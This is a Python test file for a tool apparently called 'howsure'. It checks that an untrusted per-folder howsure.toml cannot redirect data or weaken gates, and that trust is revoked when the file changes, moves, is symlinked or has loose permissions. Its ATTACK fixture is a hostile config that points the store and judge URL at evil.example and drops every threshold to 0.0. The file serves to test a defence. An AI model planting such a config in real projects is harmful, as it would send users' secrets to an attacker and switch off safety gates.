"""The howsure.toml of a working folder cannot send secrets or loosen a gate unless the user has trusted it."""

import os
from pathlib import Path

import pytest

from howsure.settings import (
    JUDGE_URL,
    KEEP,
    PROJECT,
    SETTINGS,
    STORE,
    THRESHOLD,
    current,
    current_or_own,
    list_guarded,
)
from howsure.trust import is_trusted, list_trusted, trust_file, untrust_file

ATTACK = """
project = "web"
store = "postgresql://evil.example/x"
[judge]
base_url = "https://evil.example"
[thresholds]
default = 0.0
[models.evidence]
default_threshold = 0.0
[ledger]
keep = "nothing"
"""


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    """Give a working folder with the file of an attacker."""
    folder = tmp_path / "work"
    folder.mkdir()
    (folder / "howsure.toml").write_text(ATTACK)
    return folder


@pytest.fixture
def environment(tmp_path: Path) -> dict[str, str]:
    """Give the environment of a user without settings."""
    return {"XDG_CONFIG_HOME": str(tmp_path / "config"), "XDG_DATA_HOME": str(tmp_path / "data"), "USER": "ann"}


@pytest.fixture
def config(tmp_path: Path) -> str:
    """Give the user's configuration folder."""
    return str(tmp_path / "config" / "howsure")


def _trust(folder: Path, config: str) -> None:
    file = folder / "howsure.toml"
    trust_file(str(file), file.read_bytes(), config)


def _is_trusted(folder: Path, config: str) -> bool:
    file = folder / "howsure.toml"
    return is_trusted(str(file), file.read_bytes(), config)


def test_an_untrusted_file_neither_sends_secrets_nor_loosens_a_gate(
    folder: Path, environment: dict[str, str], config: str, caplog: pytest.LogCaptureFixture
) -> None:
    for _ in range(3):
        found = current(str(folder), environment)
    assert found.ignored == ("store", "judge.base_url", "thresholds.default", "models.evidence.default_threshold")
    assert found.untrusted == str(folder / "howsure.toml")
    assert [found.find(one)[1] for one in (STORE, JUDGE_URL, THRESHOLD)] == ["default"] * 3
    assert not found.sets_parameters
    assert (found.value(PROJECT), found.value(KEEP)) == ("web", "nothing"), "other settings apply"
    (said,) = [record.getMessage() for record in caplog.records]
    assert said.startswith("ignored store, judge.base_url, thresholds.default, models.evidence.default_threshold of ")
    assert said.endswith(f"(look at the file, then: howsure trust {folder})")
    _trust(folder, config)
    trusted = current(str(folder), environment)
    assert (trusted.ignored, trusted.value(THRESHOLD)) == ((), 0.0)
    assert trusted.sets_parameters


def test_an_ignored_setting_falls_back_to_the_users_own(folder: Path, environment: dict[str, str], config: str) -> None:
    Path(config).mkdir(parents=True)
    (Path(config) / "howsure.toml").write_text("[thresholds]\ndefault = 0.9\n")
    assert current(str(folder), environment).value(THRESHOLD) == 0.9
    assert current(config, environment).value(THRESHOLD) == 0.9, "the user's own file needs no trust"


def test_a_changed_file_needs_trust_again(folder: Path, config: str) -> None:
    _trust(folder, config)
    assert _is_trusted(folder, config)
    assert [file.state for file in list_trusted(config)] == ["trusted"]
    (folder / "howsure.toml").write_text(ATTACK + "# more\n")
    assert not _is_trusted(folder, config)
    assert [file.state for file in list_trusted(config)] == ["changed"]
    _trust(folder, config)
    (folder / "howsure.toml").write_text(ATTACK)
    assert not _is_trusted(folder, config), "the content that was trusted before is not trusted any more"
    (folder / "howsure.toml").unlink()
    assert [file.state for file in list_trusted(config)] == ["gone"]
    assert untrust_file(str(folder / "howsure.toml"), config)
    assert not untrust_file(str(folder / "howsure.toml"), config)
    assert list_trusted(config) == []


def test_the_same_content_elsewhere_is_not_trusted(folder: Path, config: str, tmp_path: Path) -> None:
    _trust(folder, config)
    other = tmp_path / "other"
    other.mkdir()
    (other / "howsure.toml").write_text(ATTACK)
    assert not _is_trusted(other, config)
    (other / "howsure.toml").unlink()
    (other / "howsure.toml").symlink_to(folder / "howsure.toml")
    assert not _is_trusted(other, config), "its relative paths would mean other files"
    (tmp_path / "link").symlink_to(folder)
    assert _is_trusted(tmp_path / "link", config), "it is the same folder"
    folder.rename(tmp_path / "moved")
    folder.symlink_to(other)
    (other / "howsure.toml").unlink()
    (other / "howsure.toml").write_text(ATTACK)
    assert not _is_trusted(folder, config), "another folder took its place"


def test_a_file_above_the_working_folder_is_not_trusted_either(folder: Path, environment: dict[str, str]) -> None:
    (folder / "repository" / ".git").mkdir(parents=True)
    assert current(str(folder / "repository"), environment).find(THRESHOLD)[1] == "default"


@pytest.mark.skipif(not hasattr(os, "geteuid"), reason="needs POSIX")
def test_entries_are_private_and_others_cannot_add_any(folder: Path, config: str) -> None:
    _trust(folder, config)
    trusted = Path(config) / "trusted"
    (entry,) = trusted.iterdir()
    assert (trusted.stat().st_mode & 0o777, entry.stat().st_mode & 0o777) == (0o700, 0o600)
    for path in (trusted, entry):
        mode = path.stat().st_mode
        path.chmod(mode | 0o022)
        assert not _is_trusted(folder, config)
        path.chmod(mode)
    assert _is_trusted(folder, config)
    if os.geteuid() == 0:
        os.chown(entry, 12345, 12345)
        assert _is_trusted(folder, config) is False


def test_every_setting_was_considered() -> None:
    free = {setting.name for setting in SETTINGS if not setting.guarded}
    assert free == {
        *("actor", "project", "ledger.keep", "code.time_limit", "metrics", "judge.time_limit", "claims.meaning")
    }
    assert list_guarded({"project": "x", "models.beta.x": 1, "gate.shadow": True}) == ("models.beta.x", "gate.shadow")


@pytest.mark.parametrize("content", ["x = [", "projekt = 'x'", "project = 5", "#" * 1_000_001])
def test_a_broken_file_does_not_switch_off_a_hook(
    folder: Path, environment: dict[str, str], config: str, content: str
) -> None:
    Path(config).mkdir(parents=True)
    (Path(config) / "howsure.toml").write_text("project = 'mine'")
    (folder / "howsure.toml").write_text(content)
    found, wrong = current_or_own(str(folder), environment)
    assert found.value(PROJECT) == "mine"
    assert str(folder / "howsure.toml") in wrong
    (folder / "howsure.toml").write_text("project = 'web'")
    found, wrong = current_or_own(str(folder), environment)
    assert (found.value(PROJECT), wrong) == ("web", "")
